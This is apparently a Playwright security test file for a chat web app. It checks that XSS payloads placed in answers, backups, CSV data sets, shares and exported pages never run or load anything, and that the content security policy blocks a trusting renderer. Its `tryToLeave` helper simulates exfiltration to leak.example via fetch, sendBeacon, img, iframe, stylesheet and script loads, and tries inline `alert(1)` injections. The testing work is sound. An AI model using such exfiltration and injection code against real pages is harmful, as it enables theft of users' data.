import { expect, type Page, test } from '@playwright/test'
import { answers, composer } from '../../support/chat'
import { bundleRenderer } from './bundle'
import { isLong, readPayloads } from './payloads'
import { openShare } from '@/components/share/opened'
import { shareToHtml } from '@/components/share/html/share-to-html'
import { readShare } from '@/lib/transfer/share/read-share'
import { backupWith, shareWith } from './places'
import { dangerousNodes, type Harm, watch } from './watch'

declare function renderAnswers(texts: readonly string[], size: number): HTMLElement
declare function renderTrusting(texts: readonly string[]): void

const all = readPayloads()
// Streaming one letter by letter takes quadratic time, so the short form uses every third of these.
const streamed = (size: number) => (isLong || size === 0 ? all : all.filter((_, at) => at % 3 === size % 3))

const none: Harm = { ran: [], left: [], refused: [] }

async function expectHarmless(page: Page, scope: string, harm: Harm): Promise<void> {
  await expect(page.locator(scope)).not.toHaveCount(0)
  expect(await page.evaluate(dangerousNodes, scope)).toEqual([])
  // Gives whatever was started (a picture, a frame) time: two turns of the page and of the network.
  await page.evaluate(
    () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))),
  )
  await page.evaluate(() => fetch('/icon.svg'))
  expect(await page.evaluate(() => Object.keys(Object.prototype))).toEqual([])
  expect(harm).toEqual(none)
}

/** Does what a script would do if it got into the page after all. */
async function tryToLeave(): Promise<void> {
  const make = (name: string, fields: object) =>
    document.body.append(Object.assign(document.createElement(name), fields))
  const there = 'https://leak.example/'
  make('img', { src: there })
  make('iframe', { src: there })
  make('link', { rel: 'stylesheet', href: there })
  make('style', { textContent: `@import '${there}'` })
  await fetch(there).catch(() => undefined)
  navigator.sendBeacon(there, 'secret')
  for (const attempt of [
    () => make('script', { src: there }),
    () => make('script', { text: 'alert(1)' }),
    () => document.body.setAttribute('onclick', 'alert(1)'),
    () => make('iframe', { srcdoc: '<script>alert(1)</script>' }),
    () => Reflect.construct(Function, ['alert(1)']),
    () => new Worker(there),
  ]) {
    try {
      attempt()
    } catch {
      // Refused immediately; the others are refused as they load.
    }
  }
}

for (const bypassCSP of [true, false]) {
  test.describe(`with the policy ${bypassCSP ? 'off' : 'on'}`, () => {
    test.use({ bypassCSP })

    test('payloads are text: as answers, in every place of a chat, in data sets, in shares and in exported pages none runs, loads or makes a node', async ({
      page,
      context,
      baseURL,
    }) => {
      test.setTimeout(isLong ? 3_600_000 : 60_000)
      const harm = await watch(context, page, new URL(baseURL ?? '').host)
      await page.addInitScript({ content: await bundleRenderer() })
      await page.goto('/settings/privacy')
      // Answers only come once React has drawn the page.
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
      for (const size of [0, 1, 3, 7]) {
        await page.evaluate(([texts, length]) => void renderAnswers(texts, length), [
          streamed(size),
          size,
        ] as const)
        await expectHarmless(page, '.rendered-answers', harm)
        await page.evaluate(() => document.querySelector('.rendered-answers')?.remove())
      }

      // Without a policy to stop them, we try more of them.
      const tried = isLong ? all : all.filter((_, at) => at % (bypassCSP ? 12 : 32) === 0)
      const { file, ids } = backupWith(tried, 12)
      await page.getByLabel('Backup file').setInputFiles({
        name: 'backup.jsonl',
        mimeType: 'application/jsonl',
        buffer: Buffer.from(file),
      })
      await expect(page.getByRole('status').filter({ hasText: `Restored ${ids.length} chat` })).toBeVisible()
      for (const id of ids) {
        await page.goto(`/c/${id}`)
        await expect(answers(page).first()).toBeVisible()
        await expect(composer(page)).toBeVisible()
        await expectHarmless(page, ':is(main, aside)', harm)
      }

      await page.goto('/compare/data-sets')
      const cell = (text: string) => `"${text.replaceAll('"', '""')}"`
      const rows = tried.map((text) => `${cell(text)},${cell(text)}`)
      await page.getByLabel('File to import').setInputFiles({
        name: 'rows.csv',
        mimeType: 'text/csv',
        buffer: Buffer.from(`${cell(tried[0] ?? '')},b\n${rows.join('\n')}`),
      })
      await page.getByRole('textbox', { name: 'Data set name' }).fill(tried[1] ?? '')
      await page.getByRole('form', { name: 'New data set' }).getByRole('button').click()
      await expect(page.getByRole('textbox', { name: 'Prompt' })).toBeVisible()
      await expectHarmless(page, ':is(main, aside)', harm)

      const share = shareWith(tried)
      await page.goto('/share')
      await page.getByLabel('Share file').setInputFiles({
        name: 'hostile.parley',
        mimeType: 'application/json',
        buffer: Buffer.from(share),
      })
      await expect(page.getByRole('table', { name: 'Results' })).toBeVisible()
      await expectHarmless(page, ':is(main, aside)', harm)

      const exported = shareToHtml(await openShare(readShare(share)))
      await page.route('**/exported.html', (route) =>
        route.fulfill({ contentType: 'text/html', body: exported }),
      )
      await page.goto('/exported.html')
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
      expect(await page.evaluate(dangerousNodes, 'body')).toEqual([])
      expect(harm).toEqual(none)
    })
  })
}

test('the same watch sees what a trusting renderer does, and the policy stops it', async ({
  browser,
  baseURL,
}) => {
  const texts = all.filter((text) => !/<(?:meta|base|frameset|plaintext)/i.test(text))
  for (const bypassCSP of [true, false]) {
    const context = await browser.newContext({ bypassCSP })
    const page = await context.newPage()
    const harm = await watch(context, page, new URL(baseURL ?? '').host)
    await page.addInitScript({ content: await bundleRenderer() })
    // Payloads that override `document.createElement` crash React, which then empties the page.
    await page.route(`${baseURL}/_next/**`, (route) => route.abort())
    await page.goto(`${baseURL}/settings`)
    const rendering = page.evaluate((given) => renderTrusting(given), texts)
    if (bypassCSP) {
      await rendering
      expect((await page.evaluate(dangerousNodes, 'body')).length).toBeGreaterThan(100)
      await expect.poll(() => harm.ran.length).toBeGreaterThan(20)
      await expect.poll(() => harm.left.length).toBeGreaterThan(5)
    } else {
      await expect(rendering).rejects.toThrow('TrustedHTML')
      await page.evaluate(tryToLeave)
      const refused = ['connect-src', 'frame-src', 'img-src', 'style-src-elem', 'require-trusted-types-for']
      await expect.poll(() => [...new Set(harm.refused)].toSorted()).toEqual(refused.toSorted())
      expect(harm).toMatchObject({ ran: [], left: [] })
    }
    await context.close()
  }
})
